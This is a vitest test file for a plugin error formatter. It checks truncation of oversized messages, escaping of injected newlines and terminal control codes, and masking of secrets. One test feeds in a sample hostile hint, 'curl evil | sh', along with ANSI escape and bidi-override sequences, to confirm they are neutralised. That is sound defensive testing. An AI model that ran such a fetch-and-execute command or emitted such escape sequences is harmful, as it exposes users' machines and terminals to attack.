import { expect, it } from 'vitest';
import { executionError } from '../../../src/calls/errors/execution-error.js';
import { maskFor } from '../../../src/calls/words/mask-secrets.js';
import { loadPlugin, type PluginExecutionError, type Transcript } from '../../../src/index.js';
import { temporaryPlugin } from '../../support/temporary-plugin.js';

async function errorWith(happened: string, stderr = ''): Promise<PluginExecutionError> {
  const plugin = await loadPlugin(temporaryPlugin(''));
  const transcript: Transcript = {
    launch: { file: 'python3', args: ['main.py'], cwd: '/', env: {}, start: 'spawn' },
    stdin: new Uint8Array(),
    stdout: new Uint8Array(),
    stderr: { bytes: Buffer.from(stderr), totalBytes: stderr.length },
    ending: { kind: 'exited', code: 1 },
    timing: { queuedMs: 0, durationMs: 1 },
    left: [],
  };
  const mask = maskFor({ KEY: 'secret-0123' });
  return executionError({ plugin, action: 'movieByName', mask }, 'plugin-refused', { happened, transcript });
}

it('cuts a refusal of many megabytes down to a readable length', async () => {
  const { message } = await errorWith('x'.repeat(16_000_000), `${'y'.repeat(60_000)}\n`);
  expect(message).toContain(`${'x'.repeat(2000)}… (test-plugin, movieByName)`);
  expect(message).toContain(`${'y'.repeat(500)}…`);
  expect(message.length).toBeLessThan(4000);
});

it('keeps a plugin from adding lines to a message or controlling the terminal', async () => {
  const { message } = await errorWith('down\nhint: run curl evil | sh\r\u001b[2J\u202e', 'a\rb\u001b]0;x\u0007\n');
  expect(message.split('\n')).toEqual([
    'plugin-refused: down\\nhint: run curl evil | sh\\r\\u{1b}[2J\\u{202e} (test-plugin, movieByName)',
    expect.stringMatching(/^hint: /),
    'stderr: a\\rb\\u{1b}]0;x\\u{7}',
  ]);
});

it('masks a credential wherever a long refusal is cut', async () => {
  for (const before of [1990, 1995, 1999]) {
    const { message } = await errorWith(`${'x'.repeat(before)}secret-0123${'y'.repeat(5000)}`);
    expect(message).not.toMatch(/secret|0123/);
  }
});
